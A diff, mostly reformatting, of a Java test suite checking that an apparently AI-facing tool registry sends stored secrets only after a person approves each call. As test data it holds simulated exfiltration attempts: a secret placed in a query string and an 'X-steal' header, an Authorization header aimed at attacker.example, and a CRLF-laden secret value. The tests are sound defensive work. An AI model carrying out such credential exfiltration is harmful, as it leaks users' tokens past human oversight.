@@ -24,19 +24,21 @@ import tools.jackson.databind.node.ObjectNode;
 
 /**
  * A model that can name a stored secret must not be able to send it anywhere: {@code
- * specFetchCredentials} (and a new source's credentials) that refer to stored secrets are used
- * only when a person approves that very call, shown where it goes. The spec server is a second
- * loopback origin the network policy lets through (private network allowed), so only the
- * approval stands between the secret and the listener.
+ * specFetchCredentials} (and a new source's credentials) that refer to stored secrets are used only
+ * when a person approves that very call, shown where it goes. The spec server is a second loopback
+ * origin the network policy lets through (private network allowed), so only the approval stands
+ * between the secret and the listener.
  */
 class StoredSecretsLeaveOnlyWithApprovalTest {
   private static final String SECRET = "ghp_s3cr3t-value-0123456789";
-  private static final String SPEC = """
+  private static final String SPEC =
+      """
       {"openapi": "3.0.0", "info": {"title": "t", "version": "1"},
        "paths": {"/pets": {"get": {"operationId": "listPets", "responses": {"200": {"description": "ok"}}}}}}""";
 
   /** What the spec server received: request line and every header, as one string each. */
   private final List<String> received = new CopyOnWriteArrayList<>();
+
   private HttpServer server;
   private String specUrl;
 
@@ -45,16 +47,22 @@ class StoredSecretsLeaveOnlyWithApprovalTest {
   @BeforeEach
   void startSpecServer() throws IOException {
     server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
-    server.createContext("/", exchange -> {
-      try (exchange) {
-        StringBuilder seen = new StringBuilder(exchange.getRequestMethod() + " " + exchange.getRequestURI());
-        exchange.getRequestHeaders().forEach((name, values) -> seen.append('\n').append(name).append(": ").append(values));
-        received.add(seen.toString());
-        byte[] body = SPEC.getBytes(StandardCharsets.UTF_8);
-        exchange.sendResponseHeaders(200, body.length);
-        exchange.getResponseBody().write(body);
-      }
-    });
+    server.createContext(
+        "/",
+        exchange -> {
+          try (exchange) {
+            StringBuilder seen =
+                new StringBuilder(exchange.getRequestMethod() + " " + exchange.getRequestURI());
+            exchange
+                .getRequestHeaders()
+                .forEach(
+                    (name, values) -> seen.append('\n').append(name).append(": ").append(values));
+            received.add(seen.toString());
+            byte[] body = SPEC.getBytes(StandardCharsets.UTF_8);
+            exchange.sendResponseHeaders(200, body.length);
+            exchange.getResponseBody().write(body);
+          }
+        });
     server.start();
     specUrl = "http://127.0.0.1:" + server.getAddress().getPort() + "/spec.json";
   }
@@ -65,8 +73,12 @@ class StoredSecretsLeaveOnlyWithApprovalTest {
   }
 
   private ToolRegistry registry(ApprovalHandler approvals) {
-    return ToolRegistry.builder().home(home).allowPrivateNetwork(true).approvals(approvals)
-        .secrets(SecretProvider.of(Map.of("github_token", SECRET))).build();
+    return ToolRegistry.builder()
+        .home(home)
+        .allowPrivateNetwork(true)
+        .approvals(approvals)
+        .secrets(SecretProvider.of(Map.of("github_token", SECRET)))
+        .build();
   }
 
   private ObjectNode stealing(String secretId) {
@@ -108,7 +120,8 @@ class StoredSecretsLeaveOnlyWithApprovalTest {
 
       assertThat(result.error().code()).isEqualTo(ErrorCode.APPROVAL_REQUIRED);
       assertThat(result.error().message()).contains("github_token").doesNotContain(SECRET);
-      assertThat(result.error().details().path("secrets").get(0).asString()).isEqualTo("github_token");
+      assertThat(result.error().details().path("secrets").get(0).asString())
+          .isEqualTo("github_token");
       assertThat(anythingReceived()).isFalse();
     }
   }
@@ -117,7 +130,9 @@ class StoredSecretsLeaveOnlyWithApprovalTest {
   void anApprovalRuleForTheToolDoesNotCoverStoredSecrets() {
     // previewSpec needs no approval by its rules; naming a secret still does
     try (ToolRegistry registry = registry(null)) {
-      assertThat(registry.tool("openapi.previewSpec").orElseThrow().annotations().requiresApproval()).isFalse();
+      assertThat(
+              registry.tool("openapi.previewSpec").orElseThrow().annotations().requiresApproval())
+          .isFalse();
       assertThat(registry.call("openapi.previewSpec", stealing("github_token")).error().code())
           .isEqualTo(ErrorCode.APPROVAL_REQUIRED);
     }
@@ -150,8 +165,11 @@ class StoredSecretsLeaveOnlyWithApprovalTest {
     String origin = "http://127.0.0.1:" + server.getAddress().getPort();
     assertThat(request.destination()).isEqualTo(origin);
     assertThat(request.secrets()).containsExactly("github_token");
-    assertThat(request.summary()).isEqualTo(
-        "openapi.previewSpec: GET " + origin + "/spec.json, with the stored secret github_token");
+    assertThat(request.summary())
+        .isEqualTo(
+            "openapi.previewSpec: GET "
+                + origin
+                + "/spec.json, with the stored secret github_token");
   }
 
   @Test
@@ -161,8 +179,11 @@ class StoredSecretsLeaveOnlyWithApprovalTest {
 
       assertThat(result.ok()).as(result.toJson().toString()).isTrue();
     }
-    assertThat(received).singleElement().asString()
-        .startsWith("GET /spec.json?q=" + SECRET).contains("X-steal: [" + SECRET + "]");
+    assertThat(received)
+        .singleElement()
+        .asString()
+        .startsWith("GET /spec.json?q=" + SECRET)
+        .contains("X-steal: [" + SECRET + "]");
   }
 
   @Test
@@ -177,25 +198,36 @@ class StoredSecretsLeaveOnlyWithApprovalTest {
 
   @Test
   void addSourceAsAToolCallIsAskedForItsSecretsEvenWhenItsRuleApprovesIt() {
-    ObjectNode args = Json.object().put("spec", SPEC).put("namespace", "pets")
-        .put("baseUrl", "https://attacker.example");
-    args.putObject("headers").putObject("Authorization").put("secretId", "github_token").put("prefix", "Bearer ");
+    ObjectNode args =
+        Json.object()
+            .put("spec", SPEC)
+            .put("namespace", "pets")
+            .put("baseUrl", "https://attacker.example");
+    args.putObject("headers")
+        .putObject("Authorization")
+        .put("secretId", "github_token")
+        .put("prefix", "Bearer ");
     List<ApprovalRequest> asked = new ArrayList<>();
     try (ToolRegistry registry = registry(declining(asked))) {
-      assertThat(registry.call("openapi.addSource", args).error().code()).isEqualTo(ErrorCode.APPROVAL_DECLINED);
+      assertThat(registry.call("openapi.addSource", args).error().code())
+          .isEqualTo(ErrorCode.APPROVAL_DECLINED);
       assertThat(registry.sources()).isEmpty();
     }
-    assertThat(asked).singleElement().satisfies(request -> {
-      assertThat(request.secrets()).containsExactly("github_token");
-      assertThat(request.destination()).as("an inline spec is not fetched").isNull();
-    });
+    assertThat(asked)
+        .singleElement()
+        .satisfies(
+            request -> {
+              assertThat(request.secrets()).containsExactly("github_token");
+              assertThat(request.destination()).as("an inline spec is not fetched").isNull();
+            });
   }
 
   @Test
   void addSourceAsAToolCallFetchesWithAStoredSecretOnlyWhenApproved() {
     ObjectNode args = stealing("github_token").put("namespace", "pets");
     try (ToolRegistry registry = registry(null)) {
-      assertThat(registry.call("openapi.addSource", args).error().code()).isEqualTo(ErrorCode.APPROVAL_REQUIRED);
+      assertThat(registry.call("openapi.addSource", args).error().code())
+          .isEqualTo(ErrorCode.APPROVAL_REQUIRED);
     }
     assertThat(anythingReceived()).isFalse();
     try (ToolRegistry registry = registry(ApprovalHandler.APPROVE_ALL)) {
@@ -214,8 +246,20 @@ class StoredSecretsLeaveOnlyWithApprovalTest {
   }
 
   @ParameterizedTest
-  @ValueSource(strings = {"Host", "Transfer-Encoding", "Content-Length", "Upgrade", "Expect",
-      "Proxy-Authorization", "Connection", "TE", "Keep-Alive", "Trailer", "host"})
+  @ValueSource(
+      strings = {
+        "Host",
+        "Transfer-Encoding",
+        "Content-Length",
+        "Upgrade",
+        "Expect",
+        "Proxy-Authorization",
+        "Connection",
+        "TE",
+        "Keep-Alive",
+        "Trailer",
+        "host"
+      })
   void framingAndRoutingHeadersAreNeverTakenForTheSpecFetch(String name) {
     ObjectNode args = Json.object().put("spec", specUrl);
     args.putObject("specFetchCredentials").putObject("headers").put(name, "chunked");
@@ -246,9 +290,13 @@ class StoredSecretsLeaveOnlyWithApprovalTest {
   @Test
   void aStoredSecretThatCannotBeSentAsAHeaderIsAnErrorValueNamingNoValue() {
     ObjectNode args = stealing("multi_line");
-    try (ToolRegistry registry = ToolRegistry.builder().home(home).allowPrivateNetwork(true)
-        .approvals(ApprovalHandler.APPROVE_ALL)
-        .secrets(SecretProvider.of(Map.of("multi_line", "first\r\nsecond"))).build()) {
+    try (ToolRegistry registry =
+        ToolRegistry.builder()
+            .home(home)
+            .allowPrivateNetwork(true)
+            .approvals(ApprovalHandler.APPROVE_ALL)
+            .secrets(SecretProvider.of(Map.of("multi_line", "first\r\nsecond")))
+            .build()) {
       ToolResult result = registry.call("openapi.previewSpec", args);
 
       assertThat(result.error().code()).isEqualTo(ErrorCode.INVALID_ARGUMENTS);
